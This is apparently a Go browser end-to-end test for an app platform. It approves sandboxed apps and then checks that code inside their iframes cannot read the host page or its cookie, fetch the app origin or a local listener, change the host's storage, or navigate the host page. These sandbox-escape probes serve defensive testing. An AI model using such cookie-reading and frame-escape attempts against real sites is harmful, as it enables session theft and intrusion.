	if text := run(t, ctx, "the confirmation", chromedp.Text(chromedp.CSS(`dialog[open]`))); !strings.Contains(text, "does not compile") || !strings.Contains(text, "left-pad") {
		t.Errorf("approving Broken clock asks:\n%s", text)
	}
	do(t, ctx, "approve anyway", browsertest.Click(chromedp.CSS(`dialog[open] button.danger`)), waitText(".approval-notices", "“Broken clock” is approved"))
	// The card clicked may move as the one above it leaves (as with
	// Decline above): a click that missed is tried again, a few times; a
	// second click on a card already approved only says so.
	for _, name := range []string{"Prober", "Team wiki"} {
		for attempt := 1; ; attempt++ {
			short, cancel := context.WithTimeout(ctx, 5*time.Second)
			err := chromedp.Do(short, browsertest.Click(inboxXCard(name, "button.primary")), waitText(".approval-notices", "“"+name+"”"))
			cancel()
			if err == nil {
				break
			}
			if attempt == 3 {
				t.Fatalf("approve %s: no notice after %d clicks: %v", name, attempt, err)
			}
		}
		do(t, ctx, name+" is approved", browsertest.Poll(`/“`+name+`”( is approved|: This proposal was already approved)/.test(document.querySelector(".approval-notices")?.innerText ?? "")`))
	}
	do(t, ctx, "the empty inbox again", chromedp.WaitVisible(chromedp.ID("approvals-empty")))
	roomsEBadge(t, ctx, 0)
	roomsEBadge(t, ctx2, 0)
	if code, body := roomsEAPI(t, ctx, "GET", "/api/rooms/"+e.RoomID+"/apps/"+doomed.Str("instance_id")+"/bundle"); code != http.StatusNotFound || strings.Contains(body, "never runs") {
		t.Errorf("the declined app's bundle: %d %s, want 404", code, body)
	}

	// The launcher: the approved apps, the declined one absent.
	do(t, ctx, "open the Room", chromedp.Navigate(e.URL+"/rooms/"+e.RoomID), chromedp.WaitVisible(chromedp.CSS(`[role=tab][aria-selected=true]`)))
	tabs := run(t, ctx, "tabs", chromedp.Evaluate[[]string](`[...document.querySelectorAll("[role=tab]")].map(b => b.textContent.replace(/\s+/g, " ").trim())`))
	if strings.Join(tabs, "|") != "Hello|Tally|Broken clock|Prober|Team wiki · repository" {
		t.Errorf("the launcher's tabs are %q", tabs)
	}
	// The demo's own app runs first, as the first tab.
	sandboxXFrame(t, ctx, "Hello")
	do(t, ctx, "Tally's tab", browsertest.Click(chromedp.ID("app-tab-"+tally.Str("instance_id"))), chromedp.WaitVisible(chromedp.CSS(`iframe[data-instance-id=`+tally.Str("instance_id")+`]`)))
	frame := sandboxXFrame(t, ctx, "Tally")
	sandboxXWait(t, frame, "Tally renders in its frame", sandboxXText("#tally-count", "Count: 0"))
	inside := run(t, frame, "inside Tally", chromedp.Evaluate[map[string]any](`({origin: origin, title: document.getElementById("tally-title").innerText, color: getComputedStyle(document.getElementById("tally-title")).color})`))
	if inside["origin"] != "null" || inside["title"] != "Tally" || inside["color"] != "rgb(40, 82, 200)" {
		t.Errorf("inside Tally's frame: %v; want origin null, its heading, its stylesheet's colour", inside)
	}
	noOverflow(t, ctx, "launcher")
	accessible(t, ctx, "launcher")
	browsertest.Screenshot(t, ctx, "launcher")
	for i := 1; i <= 3; i++ {
		run(t, frame, "add one", chromedp.Evaluate[chromedp.Void](`document.getElementById("tally-add").click()`))
		sandboxXWait(t, frame, "counted", sandboxXText("#tally-count", fmt.Sprintf("Count: %d", i)))
	}
	browsertest.Screenshot(t, ctx, "app-running")
	do(t, ctx, "reload the launcher", chromedp.Reload(), chromedp.WaitVisible(chromedp.CSS(`iframe.app-frame`)))
	sandboxXFrame(t, ctx, "Hello")
	do(t, ctx, "Tally's tab again", browsertest.Click(chromedp.ID("app-tab-"+tally.Str("instance_id"))), chromedp.WaitVisible(chromedp.CSS(`iframe[data-instance-id=`+tally.Str("instance_id")+`]`)))
	frame = sandboxXFrame(t, ctx, "Tally")
	sandboxXWait(t, frame, "the count after a reload", sandboxXText("#tally-count", "Count: 3"))
	// From inside the frame: the host's document and cookie, and fetch.
	port := listener.URL[strings.LastIndex(listener.URL, ":")+1:]
	basic := run(t, frame, "the frame reaches out", chromedp.Evaluate[map[string]string](fmt.Sprintf(`(async () => {
		const out = {};
		const tryit = async (name, f) => { try { out[name] = "allowed: " + String(await f()).slice(0, 60); } catch (e) { out[name] = "blocked: " + (e && e.name); } };
		await tryit("parent.document", () => parent.document.body.innerHTML);
		await tryit("host cookie", () => parent.document.cookie);
		await tryit("document.cookie", () => document.cookie);
		await tryit("fetch the app's origin", () => fetch(%q + "/api/me").then(r => r.status));
		await tryit("fetch the listener", () => fetch("http://127.0.0.1:%s/tally").then(r => r.status));
		return out;
	})()`, e.URL, port), chromedp.EvalAwaitPromise))
	for name, v := range basic {
		if !strings.HasPrefix(v, "blocked") {
			t.Errorf("from inside Tally's frame, %s was %s", name, v)
		}
	}

	// The compile error in the launcher: the errors, never a frame.
	do(t, ctx, "Broken clock's tab", browsertest.Click(chromedp.ID("app-tab-"+broken.Str("instance_id"))), chromedp.WaitVisible(chromedp.CSS(`.app-compile`)))
	if n := run(t, ctx, "frames", chromedp.Evaluate[int](`document.querySelectorAll("iframe").length`)); n != 0 {
		t.Errorf("an app that does not compile has %d frames", n)
	}
	shown := run(t, ctx, "the errors", chromedp.Text(chromedp.CSS(`.app-compile`)))
	for _, want := range []string{"Broken clock does not compile", "src/App.tsx:2:", "left-pad"} {
		if !strings.Contains(shown, want) {
			t.Errorf("the launcher's Broken clock does not say %q:\n%s", want, shown)
		}
	}
	noOverflow(t, ctx, "app-compile-error")
	accessible(t, ctx, "app-compile-error")
	browsertest.Screenshot(t, ctx, "app-compile-error")
	do(t, ctx, "phone width", browsertest.Phone(), chromedp.WaitVisible(chromedp.CSS(`.app-compile`)))
	noOverflow(t, ctx, "app-compile-error at 390 px")
	do(t, ctx, "desktop width", browsertest.Desktop())

	// The repository app: its pinned version and build state.
	do(t, ctx, "Team wiki's tab", browsertest.Click(chromedp.ID("app-tab-"+wiki.Str("instance_id"))), waitText(".app-panel", "This path does not build or deploy a bundle."))
	panel := run(t, ctx, "the repository panel", chromedp.Text(chromedp.CSS(`.app-panel`)))
	for _, want := range []string{"team-wiki", versionID, "Build"} {
		if !strings.Contains(panel, want) {
			t.Errorf("the repository app's panel does not show %q:\n%s", want, panel)
		}
	}

	// The prober: every way out from a real compiled snippet.
	before := run(t, ctx, "the host's storage", chromedp.Evaluate[map[string]string](`Object.fromEntries(Object.keys(localStorage).map(k => [k, localStorage.getItem(k)]))`))
	do(t, ctx, "Prober's tab", browsertest.Click(chromedp.ID("app-tab-"+prober.Str("instance_id"))), chromedp.WaitVisible(chromedp.CSS(`iframe[data-instance-id=`+prober.Str("instance_id")+`]`)))
	pframe := sandboxXFrame(t, ctx, "Prober")
	deadline := time.Now().Add(60 * time.Second)
	var raw string
	for time.Now().Before(deadline) {
		r, err := chromedp.Run(pframe, chromedp.Evaluate[string](`document.getElementById("probe")?.dataset.done === "yes" ? document.getElementById("probe").innerText : (document.querySelector(".app-error")?.innerText ?? "")`))
		if err == nil && r != "" {
			raw = r
			break
		}
		time.Sleep(200 * time.Millisecond)
	}
	var results map[string]string
	if err := json.Unmarshal([]byte(raw), &results); err != nil {
		t.Fatalf("the prober's results: %v\n%s", err, raw)
	}
	for name, v := range results {
		t.Logf("from the compiled snippet, %s: %s", name, v)
		if name == "port" {
			continue
		}
		if !strings.HasPrefix(v, "blocked") {
			t.Errorf("from the compiled snippet, %s was %s", name, v)
		}
	}
	if len(results) < 60 {
		t.Errorf("only %d ways out were tried: %v", len(results), results)
	}
	// Over its own port: what is not a proper call is refused; what is
	// (a key that looks like another app's path) stays under its own name.
	var port0 map[string]string
	if err := json.Unmarshal([]byte(strings.TrimPrefix(results["port results"], "blocked: ")), &port0); err != nil || results["port"] != "caught" {
		t.Fatalf("the prober's calls over its port: %v %q", err, results["port results"])
	}
	for _, k := range []string{"non-JSON value", "object value", "huge value", "huge key", "unknown op", "number key", "a port inside"} {
		if !strings.HasPrefix(port0[k], "refused") {
			t.Errorf("over its port, %s: %s, want it refused", k, port0[k])
		}
	}
	// The host is still there and the rest of its storage unchanged.
	own := "foundry.app:" + e.RoomID + ":" + prober.Str("instance_id") + ":"
	after := run(t, ctx, "the host's storage after", chromedp.Evaluate[map[string]string](`Object.fromEntries(Object.keys(localStorage).filter(k => !k.startsWith(`+fmt.Sprintf("%q", own)+`)).map(k => [k, localStorage.getItem(k)]))`))
	if fmt.Sprint(after) != fmt.Sprint(before) {
		t.Errorf("the prober changed the host's storage outside its own: before %v, after %v", before, after)
	}
	// The ways that navigate the frame itself, one frame load each.
	for _, how := range []string{"meta", "location", "form", "anchor", "download", "back", "go", "same-server page"} {
		run(t, pframe, "leave by "+how, chromedp.Evaluate[chromedp.Void](`setTimeout(() => __leave(`+fmt.Sprintf("%q", how)+`), 0); undefined`))
		time.Sleep(700 * time.Millisecond)
		if u := location(t, ctx); u.Path != "/rooms/"+e.RoomID {
			t.Errorf("after the prober left by %s the host page is at %s, want its Room", how, u)
		}
		do(t, ctx, "back to the Room", chromedp.Reload(), chromedp.WaitVisible(chromedp.CSS(`iframe.app-frame`)))
		sandboxXFrame(t, ctx, "Hello")
		do(t, ctx, "back to Prober", browsertest.Click(chromedp.ID("app-tab-"+prober.Str("instance_id"))), chromedp.WaitVisible(chromedp.CSS(`iframe[data-instance-id=`+prober.Str("instance_id")+`]`)))
		pframe = sandboxXFrame(t, ctx, "Prober")
	}
	time.Sleep(time.Second)
	if got := listener.requests(); len(got) > 0 {
		t.Errorf("the listener on 127.0.0.1 was reached from a compiled snippet: %q", got)
	}
	if u := location(t, ctx); u.Path != "/rooms/"+e.RoomID {
		t.Errorf("the host page is at %s after the prober, want its Room", u)
	}
	if v := run(t, ctx, "Tally's count kept", chromedp.Evaluate[string](`localStorage.getItem("foundry.app:`+e.RoomID+`:`+tally.Str("instance_id")+`:count")`)); v != "3" {
		t.Errorf("Tally's stored count is %q after the prober, want 3", v)
	}
	t.Logf("%d ways out tried from a compiled snippet (and 8 navigations of its frame); the listener heard none", len(results))
}
